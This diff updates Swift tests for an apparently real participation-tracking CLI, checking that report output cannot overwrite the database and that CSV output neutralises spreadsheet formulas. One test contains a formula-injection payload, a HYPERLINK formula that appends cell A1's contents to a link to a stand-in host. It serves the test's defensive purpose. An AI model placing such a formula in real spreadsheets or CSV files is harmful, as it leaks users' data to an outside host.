@@ -1,4 +1,5 @@
 import EcoLearn
+import EcoLearnSQLite
 import EcoLearnTracking
 import Foundation
 import Testing
@@ -6,7 +7,7 @@ import Testing
 /// Output files never replace the participation database, are written whole or not at all, and a file named
 /// on the command line fails the same way everywhere.
 @Suite struct OutputFileTests {
-    @Test func reportOverTheDatabaseIsRefusedByEveryName() throws {
+    @Test func reportOverTheDatabaseIsRefusedByEveryName() async throws {
         let folder = try TrackingCLI.smallDataSetFolder()
         let database = folder.appendingPathComponent("t.db")
         let before = try Data(contentsOf: database)
@@ -22,7 +23,7 @@ import Testing
         #expect(try Data(contentsOf: database) == before)
     }
 
-    @Test func theDefaultDatabaseIsProtectedToo() throws {
+    @Test func theDefaultDatabaseIsProtectedToo() async throws {
         let folder = try TestSupport.folder()
         let add = try TrackingCLI.run(
             ["events", "add", "--date", "2019-05-01", "--town", "Amasya", "--country", "Türkiye", "--kind", "lesson",
@@ -34,7 +35,7 @@ import Testing
         #expect(report.stderr.hasPrefix("Error: data/participation.sqlite: refusing to write there: it is the participation database /"))
         let export = try TrackingCLI.run(["report", "-o", "data/../data/participation.sqlite"], in: folder)
         #expect(export.status == 1)
-        #expect(try ParticipationStore(path: database.path).events().count == 1)
+        #expect(try await SQLiteParticipationStore(path: database.path).events().count == 1)
     }
 
     @Test func missingOutputFolderFailsWithStatusOneAndWritesNothing() throws {
@@ -84,10 +85,10 @@ import Testing
     }
 
     @Test func csvOutputNeutralisesFormulasAndKeepsNumbers() throws {
-        let store = try TestSupport.store()
+        let store = try TestSupport.sqliteStore()
         let csv = "code,date,town,country,kind,title,audience,headcount\n"
             + "F1,2019-05-01,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",@Latvia,lesson,x,school,7\n"
-        _ = try store.importEvents(data: Data(csv.utf8), fileName: "f.csv")
+        _ = try store.importEvents(data: Data(csv.utf8), fileName: "f.csv", options: ImportOptions())
         let text = try ReportFormat.csv.render(store.report(ReportRequest(groupings: [[.town], [.country]])))
         #expect(text.contains("by town,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",people,7\n"))
         #expect(text.contains("by country,\"'@Latvia\",events,1\n"))
